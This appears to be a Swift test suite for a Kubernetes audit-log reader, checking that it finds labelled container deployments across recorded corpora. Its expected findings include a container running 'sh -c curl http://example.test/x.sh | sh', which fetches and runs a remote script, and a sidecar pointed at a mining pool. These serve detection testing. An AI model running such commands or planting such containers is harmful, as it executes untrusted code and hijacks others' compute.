import Deployments
import Dialects
import Foundation
import Testing

/// Reads recorded audit logs and holds what is found against an independent walk over the same events.
@Suite(.enabled(if: SharedData.isPresent, "needs the recorded corpora beside the project"))
struct KubernetesCorpusTests {
    typealias Object = [String: Any]

    /// What an event's own words say should be told of it, one line per container.
    struct Expectation {
        /// Lines by audit id.
        var lines: [String: [String]] = [:]

        init(_ events: [(label: Object, event: Object)]) {
            for (label, event) in events where label["role"] as? String == "primary" {
                let id = event["auditID"] as? String ?? ""
                guard event["stage"] as? String == "ResponseComplete" else { continue }
                let lines = CorpusOracle.lines(event)
                if !lines.isEmpty { self.lines[id, default: []] += lines }
            }
        }
    }

    static func corpus() throws -> [(label: Object, event: Object, line: String)] {
        let labels = try SharedData.objects("kubernetes/audit-labels.jsonl")
        let lines = try SharedData.lines("kubernetes/audit.jsonl")
        let events = try SharedData.objects("kubernetes/audit.jsonl")
        try #require(labels.count == events.count)
        return zip(labels, zip(events, lines)).map { ($0, $1.0, $1.1) }
    }

    @Test func `every labelled deployment is found once with its fields, and nothing else is`() throws {
        let corpus = try Self.corpus()
        let expected = Expectation(corpus.map { ($0.label, $0.event) })
        let found = readings(of: KubernetesAuditDialect(), corpus.map(\.line))
        #expect(found.problems == [])
        let told = Dictionary(grouping: found.deployments, by: \.event.id).mapValues { $0.map(CorpusOracle.line) }
        var missed: [String] = []
        var extra: [String] = []
        for (id, lines) in expected.lines {
            let here = told[id] ?? []
            missed += Self.difference(lines, here).map { "\(id) \($0)" }
            extra += Self.difference(here, lines).map { "\(id) \($0)" }
        }
        for (id, lines) in told where expected.lines[id] == nil { extra += lines.map { "\(id) \($0)" } }
        #expect(missed.sorted() == [])
        // What the second reading does not see: a manifest and a pod patch that stand as text in a workflow, and a
        // container that a webhook put into a controller's pod and not into its owner's template.
        let controller = "system:serviceaccount:kube-system:replicaset-controller"
        let runner = "workload-create success system:serviceaccount:ml:pipeline-runner ml main"
        let beyond = extra.map { $0.split(separator: " ").dropFirst().joined(separator: " ") }
        let wanted: [String] = [
            "pod-create success \(controller) shop proxy registry.unknown.test/mesh/proxy:9 privileged=false "
                + "paths= args=--pool stratum+tcp://pool.example.test:3333",
            "\(runner) - privileged=true paths= args=",
            "\(runner) registry.unknown.test/tools/all:1 privileged=false paths= "
                + "args=sh -c curl http://example.test/x.sh | sh",
        ]
        #expect(beyond.sorted() == wanted)
        #expect(expected.lines.count == 129)
        #expect(found.deployments.count == 146)
    }

    static func lines(_ reading: Reading) -> [String] { reading.deployments.map(CorpusOracle.line).sorted() }

    static func difference(_ left: [String], _ right: [String]) -> [String] {
        var rest = right
        return left.filter { line in
            guard let index = rest.firstIndex(of: line) else { return true }
            rest.remove(at: index)
            return false
        }
    }

    @Test func `what level Metadata hides stays unknown, and controllers are still joined`() throws {
        let found = readings(
            of: KubernetesAuditDialect(),
            try SharedData.lines("kubernetes/audit-metadata-level.jsonl")
        )
        #expect(found.problems == [])
        let controllers = found.deployments.filter { ($0.actor.userName ?? "").hasSuffix("-controller") }
        #expect(controllers.map { "\($0.actor.userName ?? "") \($0.placement.resourceName ?? "")" } == [])
        #expect(found.deployments.allSatisfy { $0.visibility == .auditLevelMetadata })
        #expect(found.deployments.allSatisfy { $0.container.imageText == nil && $0.security == Security() })
        #expect(found.deployments.count == 36)
    }

    @Test func `every stage of a request counts once`() throws {
        let found = readings(of: KubernetesAuditDialect(), try SharedData.lines("kubernetes/audit-allstages.jsonl"))
        let told = found.deployments.map {
            "\($0.event.action.rawValue) \($0.event.outcome.rawValue) \($0.actor.userName ?? "-") "
                + "\($0.http?.statusCode ?? 0) \($0.visibility.rawValue)"
        }
        #expect(found.problems == [])
        #expect(
            told == [
                "pod-create success bob 201 full", "pod-create success bob 201 full", "pod-exec success bob 101 full",
                "pod-create failure mallory 403 body-not-logged", "pod-create failure kubernetes-admin 403 full",
                "pod-create failure system:anonymous 403 body-not-logged",
                "pod-create failure - 401 body-not-logged", "pod-create failure bob 400 body-not-logged",
            ]
        )
    }

    @Test func `event lists hold the same deployments as their events, line by line`() throws {
        let lists = try SharedData.objects("kubernetes/audit-eventlists.jsonl")
        let events = try lists.flatMap { $0["items"] as? [[String: Any]] ?? [] }.map {
            String(decoding: try JSONSerialization.data(withJSONObject: $0), as: UTF8.self)
        }
        let pretty = try lists.map {
            String(
                decoding: try JSONSerialization.data(withJSONObject: $0, options: .prettyPrinted),
                as: UTF8.self
            )
        }
        let byLine = Self.lines(readings(of: KubernetesAuditDialect(), events))
        let byList = readings(of: KubernetesAuditDialect(), try SharedData.lines("kubernetes/audit-eventlists.jsonl"))
        #expect(byList.problems == [])
        #expect(Self.lines(byList) == byLine)
        #expect(Self.lines(readings(of: KubernetesAuditDialect(), pretty)) == byLine)
        #expect(byLine.count == 38)
    }

    @Test func `envelopes change nothing`() throws {
        let lines = try Self.corpus().map(\.line)
        let plain = readings(of: KubernetesAuditDialect(), lines).deployments.map(CorpusOracle.line)
        for envelope in AuditEnvelopes.all {
            let found = readings(of: KubernetesAuditDialect(), lines.flatMap(envelope.wrap))
            #expect(found.problems == [], "\(envelope.name)")
            #expect(found.deployments.map(CorpusOracle.line) == plain, "\(envelope.name)")
        }
    }
}
